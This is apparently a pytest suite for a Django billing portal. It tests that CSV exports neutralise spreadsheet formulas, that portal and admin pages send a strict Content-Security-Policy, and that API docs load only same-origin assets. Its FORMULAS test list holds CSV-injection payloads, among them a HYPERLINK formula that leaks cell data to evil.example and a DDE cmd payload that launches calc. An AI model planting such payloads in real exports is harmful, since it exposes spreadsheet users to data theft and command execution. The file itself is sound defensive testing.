"""The web pages under attack: CSV cells that a spreadsheet would run as formulas, the
Content-Security-Policy on the portal, the admin and the API docs, and API docs that work
offline (Swagger UI and Redoc served from this origin)."""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import urlparse

import pytest
from django.test import Client

from billing.portal.spreadsheet import safe_cell
from tests.billing import test_portal as portal_tests
from tests.invoicing.conftest import use

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _portal_settings(settings, tmp_path):
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    settings.MEDIA_ROOT = tmp_path
    settings.PORTAL_BASE_URL = "http://portal.test"


# --- CSV injection ---------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"invoice")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    " =1+1",
    '\n=HYPERLINK("http://evil.example")',
    "  \r\n+1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_prefix_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["gpt-4o", "", "a=b", 12, None, "llm.completion"])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_the_usage_export_writes_no_formula_from_an_events_fields():
    subscription = portal_tests.customer_with_usage("acme")
    outcome = use(subscription, 1, key=FORMULAS[0], at_time=subscription.current_period_start)
    assert outcome.status == "accepted", outcome
    client = portal_tests.member_client(subscription.customer, "ann@acme.example")
    response = client.get("/portal/usage/events.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    row = next(r for r in rows if FORMULAS[0] in r[1])
    assert row[1] == "'" + FORMULAS[0]
    for row in rows[1:]:
        for cell in row[1:5] + row[11:]:  # the text columns
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


# --- Content-Security-Policy ---------------------------------------------------------------


def policy(response) -> dict[str, list[str]]:
    header = response["Content-Security-Policy"]
    return {d.split()[0]: d.split()[1:] for d in (p.strip() for p in header.split(";")) if d}


def test_portal_and_admin_pages_allow_only_this_origins_scripts(admin_client):
    subscription = portal_tests.customer_with_usage("acme")
    client = portal_tests.member_client(subscription.customer, "ann@acme.example")
    pages = [client.get(p) for p in ("/portal/", "/portal/usage/", "/portal/credits/")]
    pages += [Client().get("/portal/login/"), admin_client.get("/admin/")]
    for response in pages:
        assert response.status_code == 200
        rules = policy(response)
        assert rules["script-src"] == ["'self'"] and rules["style-src"] == ["'self'"]
        assert rules["object-src"] == ["'none'"] and rules["frame-ancestors"] == ["'none'"]
        html = response.content.decode()
        # nothing the policy would block: no inline script, style element or attribute
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), response.request["PATH_INFO"]
        assert "<style" not in html and " style=" not in html, response.request["PATH_INFO"]
        assert not re.search(r"\son[a-z]+=", html), response.request["PATH_INFO"]


# --- the API docs, offline ------------------------------------------------------------------


def same_origin_assets(html: str) -> list[str]:
    urls = re.findall(r'(?:src|href)="([^"]+)"', html)
    urls += re.findall(r"spec-url=\"([^\"]+)\"", html)
    for url in urls:
        parts = urlparse(url)
        assert not parts.scheme and not parts.netloc, f"{url} is not served by us"
    return urls


@pytest.mark.parametrize("page", ["/api/docs/", "/api/redoc/"])
def test_the_api_docs_load_only_this_origins_assets_and_they_are_served(page):
    client = Client()
    response = client.get(page)
    assert response.status_code == 200
    html = response.content.decode()
    assert "<style" not in html and not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html)
    assert policy(response)["script-src"] == ["'self'"]
    assets = same_origin_assets(html)
    assert any(a.endswith(".js") for a in assets)
    for url in assets:
        asset = client.get(url)
        assert asset.status_code == 200, url
        body = (b"".join(asset.streaming_content) if asset.streaming else asset.content).decode(
            "utf-8", "replace"
        )
        assert body.strip(), url
        # Swagger UI's start script fetches the schema from this origin too
        if "schema" in url and "format" not in url:
            continue
    assert any("swagger-ui-bundle.js" in a or "redoc.standalone.js" in a for a in assets)
